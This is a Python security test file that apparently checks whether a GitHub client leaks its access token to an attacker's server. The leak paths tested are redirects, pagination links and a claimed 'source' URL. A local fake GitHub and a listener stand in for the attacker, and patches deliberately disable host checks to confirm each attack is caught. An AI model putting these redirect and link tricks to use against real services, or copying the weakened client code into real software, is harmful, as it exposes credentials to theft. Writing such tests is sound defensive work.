"""Row 12: an address in an answer or in a file, that leads to a server of the attacker's."""

import contextlib
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from evalmark.adapters.github import GitHubClient, GitHubPublisher, GitHubReviews
from evalmark.errors import EvalmarkError
from evalmark.flows.verify import Claimed, Prepared, prepare
from tests.attacks.attack import Attack, instead
from tests.attacks.scene import READ, Listener, scene
from tests.builders import entry_text
from tests.github.fake import FakeGitHub

Ask = Callable[[GitHubClient, int], object]


def gets_the_token(lead_astray: Callable[[FakeGitHub, str], None], ask: Ask) -> Callable[[Path], bool]:
    """The answer of GitHub, or of what stands between, names another server, which then hears the token."""

    def works(_folder: Path) -> bool:
        with FakeGitHub() as github, Listener().listening() as mallory:
            repo = github.repository("acme/adder")
            base = repo.commit({"README.md": b""})
            number = repo.pull_request(head=repo.commit({"a": b""}, parent=base), base=base)
            token = github.token(*READ)
            lead_astray(github, mallory.url)
            with contextlib.suppress(EvalmarkError):
                ask(GitHubClient(github.url, token, sleep=lambda _seconds: None), number)
        return any(token in heard.get("authorization", "") for heard in mallory.heard)

    return works


def redirect(github: FakeGitHub, url: str) -> None:
    github.redirect("/pulls/", f"{url}/pulls/1")


def next_page(github: FakeGitHub, url: str) -> None:
    github.link("/comments", f"{url}/comments?page=2")


def look_up(client: GitHubClient, number: int) -> object:
    return GitHubReviews(client, "acme/adder").pull_request(number)


def comments(client: GitHubClient, number: int) -> object:
    return GitHubPublisher(client, "acme/adder", "github-actions[bot]").comments(number)


def is_visited(folder: Path) -> bool:
    """An entry names a source: who opens it tells the attacker where the runner stands, or what it can reach."""
    with scene(folder) as at, Listener().listening() as mallory:
        at.propose(entry_text("57.0", more=f"  source:\n    url: {mallory.url}/log.eval\n"))
        at.step("validate", "workflow_dispatch", {"online": "false"}, READ, {})
        at.report()
    return bool(mallory.heard)


def visit_sources(patch: pytest.MonkeyPatch) -> None:
    def visit_and_prepare(claimed: Claimed, *more: Any, **named: Any) -> Prepared:
        for located in claimed.entries:
            if located.entry.source is not None:
                urllib.request.urlopen(located.entry.source.url).close()
        return prepare(claimed, *more, **named)

    patch.setattr("evalmark.flows.pull_request.prepare", visit_and_prepare)


ANY_SERVER = instead("evalmark.adapters.github.client.GitHubClient._own", lambda _self, url, _what, _call: url)
FOLLOWED = instead("evalmark.adapters.github.transport._AsItIs", urllib.request.HTTPErrorProcessor)

ATTACKS = [
    Attack(12, "redirect", gets_the_token(redirect, look_up), ANY_SERVER),
    Attack(12, "redirect that the library follows", gets_the_token(redirect, look_up), FOLLOWED),
    Attack(12, "next page", gets_the_token(next_page, comments), ANY_SERVER),
    Attack(12, "source of a claim", is_visited, visit_sources),
]
